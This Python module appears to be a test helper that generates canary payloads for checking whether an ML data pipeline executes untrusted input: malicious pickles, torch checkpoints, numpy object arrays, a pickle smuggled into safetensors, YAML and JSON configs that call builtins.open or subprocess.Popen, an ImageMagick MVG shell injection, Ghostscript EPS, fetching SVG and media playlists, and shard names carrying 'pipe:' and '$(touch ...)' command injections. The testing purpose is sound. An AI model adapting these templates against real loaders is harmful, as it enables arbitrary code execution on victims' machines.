"""Payloads: files and names that leave a mark if anything executes them."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import torch
from PIL import Image

PROGRAMS = ("gs", "gswin64c", "convert", "magick", "ffmpeg", "curl", "wget", "gsutil", "aws", "ssh")
"""Other programs that readers of such files start."""


class Touch:
    """What makes a file when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return Path.touch, (self.marker,)


def pickled(marker: Path, protocol: int = 2) -> bytes:
    """A pickle that makes a file, in opcodes that every protocol has."""
    touch = b"cbuiltins\ngetattr\n(cpathlib\nPath\nVtouch\ntR"
    path = b"(cpathlib\nPath\n(V" + str(marker).encode("raw_unicode_escape") + b"\ntRtR."
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + touch + path


def member_payloads(url: str) -> dict[str, Callable[[Path], bytes]]:
    """Name of a member -> its bytes, given the file that they make when they are executed.

    Args:
        url: where a server listens that makes the file named after it, when it is asked.
    """

    def zipped(marker: Path) -> bytes:
        return gzip.compress(pickled(marker))

    made: dict[str, Callable[[Path], bytes]] = {
        **{
            name: pickled
            for name in ("pkl", "pickle", "pyd", "pt", "pth", "joblib", "cls", "index")
        },
        **{name: pickled for name in ("jpg", "png", "webp", "mp4", "txt", "json", "npy", "0.jpg")},
        "safetensors": pickled,
        **{f"{name}.gz": zipped for name in ("pkl", "pyd", "jpg", "npy", "json", "0.jpg")},
        "npz": object_npz,
        "yaml": yaml_call,
        "yml": yaml_call,
    }
    # Several payloads for one kind of member: what follows the slash only tells them apart.
    for extension in ("npy", "jpg"):
        made[f"{extension}/objects"] = object_npy
        made[f"{extension}/zip"] = torch_zip
    made["safetensors/header"] = pickle_as_safetensors
    made["txt/yaml"] = made["json/yaml"] = yaml_call
    made["json/class"] = json_class
    for extension in ("jpg", "png", "0.jpg"):
        made[f"{extension}/eps"] = postscript
        made[f"{extension}/svg"] = lambda marker: svg(f"{url}/{relative(marker)}", marker)
        made[f"{extension}/mvg"] = lambda marker: mvg(f"{url}/{relative(marker)}", marker)
        made[f"{extension}/msl"] = msl
    made["mp4/m3u8"] = lambda marker: playlist(f"{url}/{relative(marker)}")
    made["mp4/concat"] = lambda marker: concat(f"{url}/{relative(marker)}")
    return made


def relative(marker: Path) -> str:
    """A marker by its folder and its name, as the server is asked for it."""
    return f"{marker.parent.name}/{marker.name}"


def pickles(marker: Path) -> Iterator[tuple[str, bytes]]:
    """Checkpoints and weights that are more than tensors, in every form `torch.load` knows."""
    for protocol in (0, 2, 4):
        yield f"pickle-{protocol}", pickled(marker, protocol)
    yield "zip", torch_zip(marker)
    yield "zip-in-dict", torch_zip(marker, inside={"state_dict": {"weight": torch.zeros(2)}})
    legacy = io.BytesIO()
    torch.save({"model": Touch(marker)}, legacy, _use_new_zipfile_serialization=False)
    yield "legacy", legacy.getvalue()
    yield "gz", gzip.compress(pickled(marker))
    yield "tar", _tar({"storages": b"", "tensors": b"", "pickle": pickled(marker)})


def torch_zip(marker: Path, inside: dict[str, Any] | None = None) -> bytes:
    """What ``torch.save`` writes of an object."""
    data = io.BytesIO()
    torch.save({**(inside or {}), "model": Touch(marker)}, data)
    return data.getvalue()


def object_npy(marker: Path) -> bytes:
    """An array of objects."""
    data = io.BytesIO()
    array = np.empty(1, object)
    array[0] = Touch(marker)
    np.save(data, array, allow_pickle=True)
    return data.getvalue()


def object_npz(marker: Path) -> bytes:
    """An archive of such arrays."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("features.npy", object_npy(marker))
    return data.getvalue()


def pickle_as_safetensors(marker: Path) -> bytes:
    """A safetensors file with a pickle for its tensor and for its metadata."""
    payload = pickled(marker, 0)
    described = {"dtype": "U8", "shape": [len(payload)], "data_offsets": [0, len(payload)]}
    header = {"__metadata__": {"format": payload.decode()}, "features": described}
    encoded = json.dumps(header).encode()
    return len(encoded).to_bytes(8, "little") + encoded + payload


def yaml_call(marker: Path) -> bytes:
    """A YAML whose tag calls a function."""
    return f"!!python/object/apply:builtins.open ['{marker}', 'w']\n".encode()


def json_class(marker: Path) -> bytes:
    """A JSON in the forms by which libraries rebuild objects."""
    call = {"py/reduce": [{"py/function": "builtins.open"}, {"py/tuple": [str(marker), "w"]}]}
    told = {
        "__class__": "builtins.open",
        "__args__": [str(marker), "w"],
        "_target_": "builtins.open",
    }
    return json.dumps(
        {"caption": "a cat", **call, **told, "file": str(marker), "mode": "w"}
    ).encode()


def postscript(marker: Path) -> bytes:
    """A picture that is a program; Pillow starts Ghostscript for it."""
    head = "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n"
    return f"{head}({marker}) (w) file closefile\nshowpage\n%%EOF\n".encode()


def svg(url: str, marker: Path) -> bytes:
    """A drawing that fetches, and calls ImageMagick's script reader."""
    links = "".join(f'<image xlink:href="{link}"/>' for link in (url, f"msl:{marker}"))
    space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    return f'<?xml version="1.0"?><svg {space} width="9" height="9">{links}</svg>'.encode()


def mvg(url: str, marker: Path) -> bytes:
    """ImageMagick's own drawing language, with its shell (CVE-2016-3714)."""
    shell = f"fill 'url({url}\"|touch \"{marker})'"
    return f"push graphic-context\nviewbox 0 0 9 9\n{shell}\npop graphic-context\n".encode()


def msl(marker: Path) -> bytes:
    """ImageMagick's script."""
    steps = f'<read filename="xc:red"/><write filename="{marker}"/>'
    return f'<?xml version="1.0"?><image>{steps}</image>'.encode()


def playlist(url: str) -> bytes:
    """A list of clips in place of one (HLS)."""
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{url}\n#EXT-X-ENDLIST\n".encode()


def concat(url: str) -> bytes:
    """A list of clips in FFmpeg's own form."""
    return f"ffconcat version 1.0\nfile '{url}'\nduration 1\n".encode()


def name_payloads(url: str, marker: Path) -> list[str]:
    """Names of shards that are commands, or of places that nothing may be read from."""
    asked = f"{url.removeprefix('http:')}/{relative(marker)}.tar"
    return [
        f"pipe:touch {marker}",
        f"PIPE:touch {marker}",
        f" pipe:touch {marker}",
        f"pipe:touch {marker}; cat {{000000..000001}}.tar",
        f"{{pipe:touch {marker},pipe:touch {marker}}}",
        f"| touch {marker}",
        f"x.tar; touch {marker}",
        f"$(touch {marker}).tar",
        f"`touch {marker}`.tar",
        f"file:$(touch {marker}).tar",
        f"file:///tmp/'; touch {marker}; '.tar",
        f"http://127.0.0.1:1/'; touch {marker}; '.tar",
        f"https://127.0.0.1:1/$(touch {marker}).tar",
        f"s3://x/'; touch {marker}; '.tar",
        f"gs://x/'; touch {marker}; '.tar",
        f"ext::sh -c touch% {marker}",
        f"data:application/x-tar,touch {marker}",
        *(f"{scheme}:{asked}" for scheme in ("ftp", "ssh", "gopher", "hdfs", "git", "ais", "dask")),
    ]


def config_payloads(marker: Path) -> list[str]:
    """YAML of a run's config that calls something."""
    call = f"['{marker}', 'w']"
    return [
        f"data: !!python/object/apply:builtins.open {call}\n",
        f"data:\n  shards: !!python/object/new:builtins.open {call}\n",
        f"data:\n  shards: !!python/object/apply:subprocess.Popen [[touch, '{marker}']]\n",
        f"run: ${{oc.call:builtins.open,{marker},w}}\n",
        f"data_class: builtins.open\ndata:\n  file: '{marker}'\n  mode: w\n",
        f"module: subprocess.Popen\nmodel:\n  args: [touch, '{marker}']\n",
        "model:\n  bridge:\n    class_path: builtins.open\n"
        f"    init_args:\n      file: '{marker}'\n      mode: w\n",
        "model:\n  bridge:\n    class_path: subprocess.Popen\n"
        f"    init_args:\n      args: [touch, '{marker}']\n",
        "trainer:\n  callbacks:\n  - class_path: subprocess.Popen\n"
        f"    init_args:\n      args: [touch, '{marker}']\n",
        "trainer:\n  strategy:\n    class_path: subprocess.Popen\n"
        f"    init_args:\n      args: [touch, '{marker}']\n",
    ]


def good_picture() -> bytes:
    """What stands beside a payload, so that it is met at all."""
    data = io.BytesIO()
    Image.new("RGB", (16, 16), "red").save(data, "PNG")
    return data.getvalue()


def payload_shard(path: Path, markers: Path, url: str, leave: tuple[str, ...] = ()) -> int:
    """Writes a shard with a sample for each payload, but those left out; returns how many."""
    beside = {"png": good_picture(), "txt": b"a cat", "json": b'{"parts": ["a", {"image": 0}]}'}
    pictures = ("jpg", "png", "webp", "0.jpg", "mp4", "npy", "safetensors")
    members: dict[str, bytes] = {}
    every = member_payloads(url)
    made = {name: make for name, make in every.items() if name.split("/")[0] not in leave}
    for number, (name, make) in enumerate(made.items()):
        extension = name.split("/")[0]
        key = f"p{number:03d}"
        for other, data in beside.items():
            if other != extension and not (other == "png" and extension in pictures):
                members[f"{key}.{other}"] = data
        members[f"{key}.{extension}"] = make(markers / name.replace("/", "-"))
    path.write_bytes(_tar(members))
    return len(made)


def _tar(members: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as tar:
        for name, content in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return data.getvalue()
